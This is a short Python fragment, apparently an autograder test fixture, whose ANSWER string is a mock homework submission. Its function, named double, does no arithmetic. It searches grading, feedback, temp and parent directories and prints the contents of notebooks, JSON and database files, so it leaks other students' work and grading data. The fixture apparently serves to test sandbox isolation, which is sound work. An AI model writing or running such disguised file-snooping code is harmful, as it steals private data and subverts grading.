"""Read the notebooks that grading has left, or is about to leave: those of others, of before, and one's own."""

ANSWER = """
import glob
import os

def double(x):
    for pattern in ("@ROOT@/autograded/**", "@ROOT@/feedback/**", "@ROOT@/**", "./**", "../**", "/tmp/**", "/dev/fd/*"):
        for path in glob.glob(pattern, recursive=True):
            if path.endswith((".ipynb", ".html", ".json", ".db", ".tmp")):
                try:
                    print(path, open(path, errors="replace").read())
                except OSError:
                    pass
    raise LookupError(os.getcwd())
"""
